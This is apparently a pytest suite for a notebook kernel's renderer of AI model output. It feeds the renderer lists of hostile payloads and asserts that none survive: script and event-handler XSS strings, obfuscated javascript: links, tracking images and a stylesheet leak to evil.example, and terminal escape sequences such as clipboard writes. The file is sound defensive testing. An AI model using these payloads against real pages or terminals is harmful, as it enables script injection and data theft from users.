"""Rendering model output: hostile Markdown, HTML, links and terminal escapes, checked on the parsed output.

Every payload is rendered alone (one fragment) and inside a whole turn (text blocks, thinking, tool
cards, notes), and the HTML is parsed the way a browser reads it: no tag outside the allowlist, no
event handler, no link whose decoded target is not http, https or mailto, no ``src`` anywhere.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest

from claude_kernel import _html
from claude_kernel._html import inline_html, markdown_html, safe_url, strip_controls
from claude_kernel.render import TurnView
from claude_kernel.session import Event
from claude_kernel.session._events import parse_message

from .kernel_client import visible_text

# What a model fragment may contain, and what our own markup adds around fragments.
FRAGMENT_TAGS = {
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "pre", "code"),
    *("em", "strong", "s", "a", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"),
}
PAGE_TAGS = FRAGMENT_TAGS | {"div", "details", "summary", "span"}
SAFE_HREF = re.compile(r"(?i)(https?://|mailto:)[^\x00-\x20]")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


class _Elements(HTMLParser):
    """Every start tag with its attributes, entities decoded (as the DOM would hold them)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def audit(html: str, *, fragment: bool) -> None:
    """Fail if ``html`` could run script, load anything, or style itself beyond the allowlist."""
    for tag, attrs in elements(html):
        assert tag in (FRAGMENT_TAGS if fragment else PAGE_TAGS), (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name in {"href", "title", "target", "rel", "start", "style", "class", "open"}, (name, html)
            if name == "href":
                assert tag == "a" and SAFE_HREF.match(value), (value, html)
            if name == "style":
                if tag in ("th", "td"):  # table alignment, the only style a model's Markdown can ask for
                    assert value in {"text-align:left", "text-align:center", "text-align:right"}, value
                else:  # our own: theme variables, never a url() or any other function
                    assert tag == "pre" or not fragment, (tag, value)
                    assert "(" not in re.sub(r"var\(--jp-[a-z0-9-]+(, [0-9.]+em)?\)", "", value), value
            if name == "class":
                assert not fragment and all(
                    c.startswith("claude-") or c in ("mathjax_ignore", "tex2jax_ignore") for c in value.split()
                ), value
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer" and attrs.get("target") == "_blank", attrs
    assert not CONTROL.search(html), repr(html)


RAW_HTML = [
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__pwned = 1">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<style>body { background: url(https://evil.example/leak) }</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<p onclick=alert(1)>para</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "</div></details></code></pre><script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>** and _<svg onload=alert(1)>_",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>\n> quoted",
    "- <img src=x onerror=alert(1)>\n- item",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=1> |",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "&lt;img src=x onerror=alert(1)&gt; and &#60;script&#62;alert(1)&#60;/script&#62;",
]

FENCES = [
    "```x`\n<img src=x onerror=alert(1)>\n```",
    "```js`x\n<script>alert(1)</script>\n```",
    "~~~\n<img src=x onerror=alert(1)>\n~~~",
    "~~~x`\n<img src=x onerror=alert(1)>\n~~~",
    "```\n<img src=x onerror=alert(1)>",
    "````\n```\n<img src=x onerror=alert(1)>\n````\n<svg onload=alert(1)>",
    "```\n```<img src=x onerror=alert(1)>\n```",
    "    <img src=x onerror=alert(1)>\n    indented code",
    "\t<script>alert(1)</script>",
    "   ```\n<img src=x onerror=alert(1)>\n   ```",
    "```\n<img src=x onerror=alert(1)>\n  ```  \n<img src=x onerror=alert(2)>",
]

CODE_SPANS = [
    "`` ` <img src=x onerror=alert(1)> ` ``",
    "``` `` <script>alert(1)</script> `` ```",
    "`a` <img src=x onerror=alert(1)> `b`",
    "`unclosed <img src=x onerror=alert(1)>",
    "``x`<img src=x onerror=alert(1)>`",
]

BAD_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](j&#x61;vascript&#x3a;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](javascript%3aalert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/etc/passwd)",
    "[x](notebook.ipynb)",
    "[x](#anchor)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](ftp://evil.example/)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:msgbox(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: <javascript:alert(1)> "title"',
    "[r]\n\n[r]: &#x6a;avascript:alert(1)",
    "[x](https:alert(1))",
    "[x](http:/evil.example)",
]

GOOD_LINKS = [
    ("[docs](https://example.com/a?b=1&c=2)", "https://example.com/a?b=1&c=2"),
    ("[x](HTTPS://EXAMPLE.COM)", "HTTPS://EXAMPLE.COM"),
    ("<https://example.com/auto>", "https://example.com/auto"),
    ("<mailto:me@example.com>", "mailto:me@example.com"),
    ("[x][r]\n\n[r]: http://example.com/ref", "http://example.com/ref"),
    ('[x](https://example.com "a title")', "https://example.com"),
    ("[x](ht&#x74;ps://example.com/entity)", "https://example.com/entity"),
    ('[x](https://example.com/"onmouseover="alert(1))', "https://example.com/%22onmouseover=%22alert(1)"),
    ("[x](https://example.com 'a\" onclick=\"alert(1)')", "https://example.com"),
]

IMAGES = [
    "![pixel](https://evil.example/track.png?secret=1)",
    '![pixel](https://evil.example/track.png "t")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![<img src=x onerror=alert(1)>](https://evil.example/p.png)",
    "![x][i]\n\n[i]: https://evil.example/ref.png",
    "[![x](https://evil.example/a.png)](https://ok.example)",
]

MATH = ["$5 and $6", "echo $HOME:$PATH", "$$\\href{javascript:alert(1)}{x}$$", "\\(x\\) \\[y\\]", "$<img src=x>$"]

LONG = [
    "a" * 200_000 + "<img src=x onerror=alert(1)>",
    "[" * 5_000 + "x](javascript:alert(1))",
    "*" * 20_000 + "<script>alert(1)</script>",
    "> " * 2_000 + "<svg onload=alert(1)>",
    "```\r\n<img src=x onerror=alert(1)>\r\n```\r\n[x](javascript:alert(1))\r\n<script>x</script>\r\n",
    "line\rover<img src=x onerror=alert(1)>\r\n",
]

HOSTILE = RAW_HTML + FENCES + CODE_SPANS + BAD_LINKS + [g for g, _ in GOOD_LINKS] + IMAGES + MATH + LONG


@pytest.mark.parametrize("payload", HOSTILE)
def test_markdown_fragment_is_inert(payload: str) -> None:
    audit(markdown_html(payload), fragment=True)
    audit(inline_html(payload), fragment=True)


@pytest.mark.parametrize("payload", RAW_HTML + FENCES + CODE_SPANS)
def test_raw_html_is_shown_as_text(payload: str) -> None:
    """Raw HTML is text: the page shows the tags instead of making elements of them."""
    html = markdown_html(payload)
    assert not {tag for tag, _ in elements(html)} & {"script", "img", "svg", "iframe", "style", "form", "input"}
    if "<img" in payload:
        assert "<img" in visible_text(html)


@pytest.mark.parametrize("payload", BAD_LINKS)
def test_links_with_another_scheme_are_no_links(payload: str) -> None:
    html = markdown_html(payload)
    assert not [a for tag, a in elements(html) if tag == "a"], html


@pytest.mark.parametrize(("payload", "href"), GOOD_LINKS)
def test_http_https_and_mailto_links_work(payload: str, href: str) -> None:
    (link,) = [attrs for tag, attrs in elements(markdown_html(payload)) if tag == "a"]
    assert link["href"] == href


@pytest.mark.parametrize("payload", IMAGES)
def test_images_become_links_never_img(payload: str) -> None:
    """A remote <img> would load as soon as the output shows: a way out for what the model read."""
    found = elements(markdown_html(payload))
    assert all(tag != "img" and "src" not in attrs for tag, attrs in found)
    for tag, attrs in found:
        if tag == "a":
            assert attrs["href"].startswith("https://")


@pytest.mark.parametrize(
    "url",
    ["javascript:x", " https://a", "\thttps://a", "//a", "https:a", "data:,x", "http:/a", "", "mailto", "Https:/a"],
)
def test_safe_url_needs_an_allowed_scheme_first(url: str) -> None:
    assert not safe_url(url)


def test_readable_markdown_survives() -> None:
    text = (
        "# Title\n\nSome *em*, **strong**, ~~gone~~ and `code`.\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nprint('<hi>')\n```\n\n---\n"
    )
    found = [tag for tag, _ in elements(markdown_html(text))]
    for tag in ("h1", "em", "strong", "s", "code", "ul", "ol", "li", "blockquote", "table", "th", "td", "pre", "hr"):
        assert tag in found, tag
    assert "print('<hi>')" in visible_text(markdown_html(text))
    assert ("ol", {"start": "3"}) in elements(markdown_html(text))


# -- whole turns --------------------------------------------------------------------------------


def stream(message_id: str, *texts: str, index: int = 0, kind: str = "text") -> list[Event]:
    delta = {"type": "text_delta", "text": ""} if kind == "text" else {"type": "thinking_delta", "thinking": ""}
    field = "text" if kind == "text" else "thinking"
    return [
        parse_message(
            {
                "type": "stream_event",
                "api_message_id": message_id,
                "event": {"type": "content_block_delta", "index": index, "delta": {**delta, field: text}},
            }
        )
        for text in texts
    ]


def message_end(message_id: str) -> Event:
    return parse_message(
        {"type": "stream_event", "api_message_id": message_id, "event": {"type": "message_delta", "delta": {}}}
    )


def assistant(message_id: str, *blocks: dict[str, Any]) -> Event:
    return parse_message({"type": "assistant", "message": {"id": message_id, "content": list(blocks)}})


def tool_result(tool_use_id: str, content: Any, *, is_error: bool = False) -> Event:
    block = {"type": "tool_result", "tool_use_id": tool_use_id, "content": content, "is_error": is_error}
    return parse_message({"type": "user", "message": {"content": [block]}})


def hostile_turn(payload: str) -> TurnView:
    """``payload`` everywhere a turn shows untrusted text."""
    view = TurnView()
    events = [
        *stream("m1", payload, kind="thinking"),
        *stream("m1", payload[: len(payload) // 2], payload[len(payload) // 2 :], index=1),
        message_end("m1"),
        assistant("m1", {"type": "tool_use", "id": "t1", "name": payload[:50], "input": {"command": payload}}),
        tool_result("t1", payload, is_error=True),
        assistant("m1", {"type": "tool_use", "id": "t2", "name": "mcp__x__y", "input": {"other": payload}}),
        tool_result("t2", [{"type": "text", "text": payload}]),
        assistant("m2", {"type": "text", "text": payload}),
    ]
    for event in events:
        view.apply(event)
    view.set_tool_note("t2", f"denied: {payload}")
    view.add_note(payload, "error")
    view.cut()
    view.add_note(payload)
    view.finish(f"model {payload}")
    return view


@pytest.mark.parametrize("payload", HOSTILE)
def test_whole_turn_is_inert(payload: str) -> None:
    view = hostile_turn(payload)
    for bundle in view.bundles():
        assert set(bundle) == {"text/html", "text/plain"}
        audit(bundle["text/html"], fragment=False)
        assert not CONTROL.search(bundle["text/plain"])
        assert bundle["text/html"].startswith('<div class="claude-turn mathjax_ignore tex2jax_ignore"')


@pytest.mark.parametrize(
    ("opening", "closing"),
    [
        ("```\n", "\n```\n<img src=x onerror=alert(1)>"),
        ("~~~\n", "~~~\n<svg onload=alert(1)>"),
        ("Text then\n```x`\n", "```\n<img src=x onerror=alert(1)>\n```"),
        ("`", "` <img src=x onerror=alert(1)> `"),
        ("<!--", "--><img src=x onerror=alert(1)>"),
        ("[a link](", "javascript:alert(1))"),
        ("<scr", "ipt>alert(1)</script>"),
    ],
)
def test_text_blocks_never_pair_across_a_tool_card(opening: str, closing: str) -> None:
    """A construct opened in one text block and closed after a tool card stays two fragments."""
    view = TurnView()
    for event in [
        assistant("m1", {"type": "text", "text": opening}),
        assistant("m1", {"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": "ls"}}),
        tool_result("t1", "```"),
        assistant("m2", {"type": "text", "text": closing}),
    ]:
        view.apply(event)
    view.finish("done")
    (bundle,) = view.bundles()
    audit(bundle["text/html"], fragment=False)
    assert "ls" in visible_text(bundle["text/html"])  # the card is still a card


def test_prices_and_shell_variables_stay_text() -> None:
    view = TurnView()
    view.apply(assistant("m1", {"type": "text", "text": "It costs $5 and $6; run `echo $HOME` or echo $HOME:$PATH"}))
    view.finish("claude · $0.0100 (session $0.0200)")
    (bundle,) = view.bundles()
    assert "mathjax_ignore" in bundle["text/html"].split(">", 1)[0]
    text = visible_text(bundle["text/html"])
    assert "It costs $5 and $6" in text and "echo $HOME:$PATH" in text and "$0.0100 (session $0.0200)" in text


# -- terminal escapes -----------------------------------------------------------------------------

ESCAPES = [
    ("copy\x1b]52;c;ZWNobyBwd25lZA==\x07 me", "copy me"),
    ("copy\x1b]52;c;ZWNobyBwd25lZA==\x1b\\ me", "copy me"),
    ("copy\x9d52;c;ZWNobyBwd25lZA==\x9c me", "copy me"),
    ("\x1b]0;pwned title\x07title", "title"),
    ("\x1b]2;pwned title\x1b\\title", "title"),
    ("\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "link"),
    ("unterminated \x1b]0;title\nnext line", "unterminated \nnext line"),
    ("\x1b[2J\x1b[Hclear", "clear"),
    ("up\x1b[1A\x1b[2Kerase", "uperase"),
    ("\x1b[31mred\x1b[0m", "red"),
    ("\x1b[38;5;196mcolour\x1b[m", "colour"),
    ("\x9b2Jeight-bit csi", "eight-bit csi"),
    ("\x1bPq#0;2;0;0;0\x1b\\sixel", "sixel"),
    ("\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\done", "done"),
    ("\x1bcreset \x1b7save\x1b8 \x1b(Bcharset \x1b=keypad", "reset save charset keypad"),
    ("bell\x07 back\x08space nul\x00 vt\x0b ff\x0c del\x7f", "bell backspace nul vt ff del"),
    ("c1 \x85nel \x84ind \x9fapc payload\x9cend", "c1 nel ind end"),
    ("tab\tand\nnewline stay", "tab\tand\nnewline stay"),
    ("crlf\r\nline", "crlf\nline"),
    ("progress 10%\rprogress 100%", "progress 10%\nprogress 100%"),
    ("half an escape at the end \x1b[", "half an escape at the end "),
    ("unicode stays: caf\u00e9 \u2713 \U0001f600", "unicode stays: caf\u00e9 \u2713 \U0001f600"),
]


@pytest.mark.parametrize(("raw", "clean"), ESCAPES)
def test_strip_controls(raw: str, clean: str) -> None:
    assert strip_controls(raw) == clean


@pytest.mark.parametrize(("raw", "clean"), ESCAPES)
def test_every_text_form_is_free_of_escapes(raw: str, clean: str) -> None:
    """The plain text (the terminal prints it), the HTML, and the answer ``-o`` stores."""
    view = hostile_turn(raw)
    for bundle in view.bundles():
        for form in (bundle["text/plain"], bundle["text/html"], visible_text(bundle["text/html"])):
            assert not CONTROL.search(form), repr(form)
    assert not CONTROL.search(view.text)


def test_escapes_split_across_deltas_are_still_removed() -> None:
    view = TurnView()
    for event in stream("m1", "a\x1b]5", "2;c;ZWNobw==", "\x07b \x1b[3", "1mred"):
        view.apply(event)
    view.finish("")
    assert view.bundles()[0]["text/plain"].startswith("ab red")


# -- tool-result images -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("media_type", "data", "shown"),
    [
        ("image/png", "iVBORw0KGgo=", True),
        ("image/jpeg", "/9j/4AAQ\nSkZJRg==", True),
        ("text/html", "PHNjcmlwdD4=", False),
        ("image/svg+xml", "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", False),
        ("image/png", "<img src=x onerror=alert(1)>", False),
    ],
)
def test_only_raster_images_from_tool_results_are_shown(media_type: str, data: str, shown: bool) -> None:
    view = TurnView()
    view.apply(assistant("m1", {"type": "tool_use", "id": "t1", "name": "Read", "input": {"file_path": "a"}}))
    image = {"type": "image", "source": {"type": "base64", "media_type": media_type, "data": data}}
    view.apply(tool_result("t1", [image]))
    assert view.images == ([(media_type, data)] if shown else [])


# -- the stream, cut and retried; caching ---------------------------------------------------------


def retry() -> Event:
    return parse_message({"type": "system", "subtype": "api_retry", "attempt": 1, "max_retries": 2})


def test_a_retried_stream_shows_its_text_once() -> None:
    view = TurnView()
    for event in [
        *stream("m0", "Before the tool."),
        message_end("m0"),
        assistant("m0", {"type": "text", "text": "Before the tool."}),
        *stream("m1", "The first chunks ", "of the answer"),
        *stream("m1", "thinking that broke", index=1, kind="thinking"),
        retry(),
        *stream("m2", "The first chunks ", "of the answer, in full."),
        message_end("m2"),
        assistant("m2", {"type": "text", "text": "The first chunks of the answer, in full."}),
    ]:
        view.apply(event)
    view.finish("")
    plain = view.bundles()[0]["text/plain"]
    assert plain.count("The first chunks") == 1 and "Before the tool." in plain
    assert "thinking that broke" not in plain
    assert view.text == "Before the tool.\n\nThe first chunks of the answer, in full."


def test_unchanged_parts_are_not_rendered_again(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    real = _html.markdown_html

    def counting(text: str, **options: Any) -> str:
        calls.append(text)
        return real(text, **options)

    monkeypatch.setattr("claude_kernel.render.markdown_html", counting)
    view = TurnView()
    for event in [*stream("m1", "first block"), *stream("m1", "second ", index=1)]:
        view.apply(event)
    view.bundles()
    view.apply(stream("m1", "block grows", index=1)[0])
    view.bundles()
    view.bundles()
    assert calls == ["first block", "second ", "second block grows"]
